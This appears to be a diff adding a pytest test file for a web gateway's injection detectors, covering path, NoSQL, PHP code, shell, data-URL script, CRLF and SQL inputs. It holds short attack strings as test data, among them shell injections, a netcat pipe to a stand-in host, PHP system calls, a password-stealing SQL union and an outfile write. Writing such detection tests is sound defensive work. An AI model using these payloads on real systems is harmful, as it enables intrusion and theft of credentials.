@@ -1,0 +1,107 @@
+"""What looks alike and differs in what a program behind the gateway would do with it."""
+
+import pytest
+
+from gateway.inspection.finding import Position
+from gateway.inspection.mechanisms import code, crlf, nosql, path, script, shell, sql
+from gateway.inspection.sign import Mechanism
+
+
+def names(mechanism: Mechanism, text: str, position: Position = Position.FORM) -> set[str]:
+    return {sign.name for sign in mechanism.signs(text, position)}
+
+
+def test_a_search_for_a_file_is_no_path_to_it() -> None:
+    assert "path.secret_file" not in names(path, "/etc/hosts file location", Position.QUERY)
+    assert "path.secret_file" in names(path, "/etc/hosts", Position.QUERY)
+    assert "path.secret_file" in names(path, "/etc/passwd .pdf", Position.QUERY)
+
+
+def test_the_bounds_of_a_filter_are_asked_for_and_those_of_a_password_are_not() -> None:
+    assert names(nosql, "filter[amount][$gte]", Position.QUERY_NAME) == set()
+    assert names(nosql, "filter[amount][$gte]=100", Position.QUERY) == set()
+    for name in ("filter[password][$gte]", "password[$gte]", "filter[amount][$ne]", "filter[amount][$where]"):
+        assert "nosql.operator" in names(nosql, name, Position.QUERY_NAME)
+    assert "nosql.operator" in names(nosql, "filter[amount][$gt]=", Position.QUERY)
+
+
+def test_a_program_of_php_that_only_counts_is_shown_and_one_that_acts_is_not() -> None:
+    shown = (
+        "<?php\n$total = 0;\nforeach ($items as $item) { $total += $item['price']; }\necho $total;\n?>\nWhy is it 0?"
+    )
+    assert names(code, shown) == {"code.quoted"}
+    for line in (
+        "system($c);",
+        "include $page;",
+        "echo `id`;",
+        "$_GET['a']($x);",
+        "echo 7*7;",
+        "$f = 'x'; $f('id');",
+        "new X;",
+    ):
+        assert "code.quoted" not in names(code, shown.replace("$total = 0;", line)), line
+
+
+def test_a_function_that_calls_what_it_is_told_counts_as_that_call() -> None:
+    for text in ("array_map('system',array('id'))", "array_filter(array('id'),'system')", "usort($_GET,'assert')"):
+        assert "code.php_call" in names(code, text, Position.QUERY)
+    assert "code.php_call" not in names(code, "array_map('trim', $names)", Position.QUERY)
+
+
+@pytest.mark.parametrize("text", ["ls | wc -l gives 0", "<TODO> fix & test </TODO>", "/bin/bash", "/bin/sh"])
+def test_what_people_say_of_commands_runs_nothing(text: str) -> None:
+    assert names(shell, text) <= {"shell.quoted"}
+
+
+@pytest.mark.parametrize(
+    "text", ['"; id; echo "', "'; id; '", "x | wc -l /etc/passwd", "ls | nc evil.example 80", "a & test </etc/x"]
+)
+def test_what_leaves_its_place_runs(text: str) -> None:
+    assert "shell.command" in names(shell, text)
+
+
+def test_nobody_pipes_into_a_shell_in_a_cookie() -> None:
+    assert "shell.command" in names(shell, "en;id|sh", Position.COOKIE)
+    assert "shell.command" not in names(shell, "en;id|sh", Position.FORM)
+
+
+def test_a_link_to_a_document_in_itself_runs_and_a_picture_does_not() -> None:
+    assert "script.address" in names(script, "[x](data:text/html;base64,PHNjcmlwdD4=)")
+    assert "script.address" in names(script, "[url=data:text/html,x]y[/url]")
+    assert "script.address" not in names(script, "![x](data:image/png;base64,iVBORw0KGgo=)")
+
+
+def test_a_field_behind_a_line_end_counts_where_no_lines_are_written() -> None:
+    assert "crlf.header" in names(crlf, "/x\nX-Injected: yes", Position.QUERY)
+    assert "crlf.header" not in names(crlf, "eggs\nmilk: two", Position.QUERY)
+    assert "crlf.header" not in names(crlf, "please send me this\nX-Large: two", Position.QUERY)
+
+
+@pytest.mark.parametrize(
+    ("text", "sign"),
+    [
+        ("5 into outfile '/x.php' lines terminated by 0x3c", "sql.into_file"),
+        ("if(1=1,name,price)", "sql.choice"),
+        ("(if('a'='b',name,price))", "sql.choice"),
+        ("name limit 1 union select password from users", "sql.union"),
+        ("id,name from users--", "sql.cut"),
+        ("'=' ", "sql.arithmetic"),
+    ],
+)
+def test_a_value_that_goes_on_as_sql_is_found(text: str, sign: str) -> None:
+    assert sign in names(sql, text, Position.QUERY)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "IF(qty>10, price*0.9, price)",
+        "love, peace from Anna --",
+        "\"You\" and 'me' = 'us' or nothing -- Shakespeare?",
+        "no limit 1 union select committee",
+        "'or'",
+    ],
+)
+def test_a_sentence_that_has_words_of_sql_is_no_statement(text: str) -> None:
+    strong = {"sql.choice", "sql.union", "sql.cut", "sql.tautology", "sql.arithmetic", "sql.condition"}
+    assert not names(sql, text, Position.QUERY) & strong
